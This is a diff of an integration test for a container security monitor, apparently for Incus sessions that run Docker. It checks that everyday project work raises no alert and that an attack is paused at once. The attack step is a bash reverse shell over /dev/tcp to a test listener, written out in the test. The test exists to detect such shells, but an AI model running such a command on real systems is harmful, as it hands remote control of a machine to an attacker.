@@ -1,6 +1,6 @@
-// Goal: what projects do all day is never stopped and raises no alarm at default thresholds; an attack in the same
-// session is stopped, with Docker's containers in it.
-// Method: one watched session of the image that users get; no registry is needed.
+// Goal: everyday project work is never paused and raises no alert with default thresholds; an attack in the same
+// session is paused together with Docker's containers in it.
+// Method: one monitored session of the default image, without a registry.
 import assert from 'node:assert/strict';
 import { readdirSync, readFileSync } from 'node:fs';
 import { test } from 'node:test';
@@ -8,14 +8,14 @@ import { parseStat } from '../../src/host/proc/processes.ts';
 import { defaultImage } from '../../src/image/versions.ts';
 import { defaultSettings } from '../../src/monitor/settings.ts';
 import { dockerConfig } from '../../src/session/plan/kernel-surface.ts';
-import { type CoidBed, coidBed } from '../incus/coid-bed.ts';
-import { attacker } from '../security/attacker.ts';
+import { type CoidBed, makeCoidBed } from '../incus/coid-bed.ts';
+import { startAttacker } from '../security/attacker.ts';
 import { untilAudited } from '../security/audited.ts';
 import { tinyImage } from './tiny-image.ts';
 
 const image = process.env['COI_DEFAULT_IMAGE'] ?? defaultImage;
 
-/** May be run twice (see `execCaptured`). */
+/** May run twice (see `execCaptured`). */
 const work: Readonly<Record<string, string>> = {
   'npm ci, with scripts of packages': `mkdir -p ~/app && cd ~/app
 for i in $(seq 1 40); do mkdir -p packs/p$i; echo '{"name":"p'$i'","version":"1.0.0","scripts":{"postinstall":"node -e 0"}}' > packs/p$i/package.json; done
@@ -35,10 +35,10 @@ cd "$(mktemp -d)" && printf 'FROM tiny\\nRUN ["/bin/busybox","touch","/made"]\\n
 for i in $(seq 1 100); do curl -s --retry 20 --retry-connrefused --retry-delay 1 http://127.0.0.1:3000/ >/dev/null; done; kill $(cat server.pid)`,
 };
 
-test('ordinary work raises no alarm; an attack beside it stands still at once, with what Docker runs', {
+test('ordinary work raises no alert; an attack meanwhile is paused at once, together with Docker containers', {
   timeout: 600_000,
 }, async () => {
-  await using bed = await coidBed();
+  await using bed = await makeCoidBed();
   const monitor = JSON.stringify({ ...defaultSettings, killGraceMs: 600_000 });
   const { container, nic } = await bed.session({
     image,
@@ -59,21 +59,21 @@ test('ordinary work raises no alarm; an attack beside it stands still at once, w
   );
   const pid = pidOf('busy-in-docker');
   assert.ok((await ticksMeanwhile(bed, container, pid)) > 0, 'it runs');
-  await using remote = await attacker();
+  await using remote = await startAttacker();
   const paused = bed.lifecycle.until('instance-paused', container);
   const shell = `bash -i >& /dev/tcp/${nic.gateway}/${remote.port} 0>&1`;
   await agent(bed, container, `setsid bash -c '${shell}' >/dev/null 2>&1 </dev/null &`);
   await paused;
-  assert.equal(await ticksMeanwhile(bed, container, pid), 0, 'it stands still');
+  assert.equal(await ticksMeanwhile(bed, container, pid), 0, 'it is paused');
 });
 
 function agent({ incus }: CoidBed, container: string, script: string) {
   const environment = { HOME: '/home/code', USER: 'code' };
-  const place = { environment, cwd: '/home/code', user: 1000, group: 1000 };
-  return incus.execCaptured(container, { command: ['bash', '-lc', script], ...place });
+  const execOptions = { environment, cwd: '/home/code', user: 1000, group: 1000 };
+  return incus.execCaptured(container, { command: ['bash', '-lc', script], ...execOptions });
 }
 
-/** On the host. */
+/** Host pid. */
 function pidOf(mark: string): number {
   const found = readdirSync('/proc').find((name) => {
     try {
@@ -92,10 +92,10 @@ function shellOf(pid: string): string {
   return line.startsWith('/bin/busybox\0') ? line : '';
 }
 
-/** Processor time that a process used while Incus was asked some fifty times. */
+/** CPU time that a process used during some fifty requests to Incus. */
 async function ticksMeanwhile(bed: CoidBed, container: string, pid: number): Promise<number> {
   const ticks = () => parseStat(readFileSync(`/proc/${pid}/stat`, 'utf8'))?.cpuTicks ?? 0;
   const before = ticks();
-  for (let asked = 0; asked < 50; asked += 1) await bed.status(container);
+  for (let attempts = 0; attempts < 50; attempts += 1) await bed.status(container);
   return ticks() - before;
 }
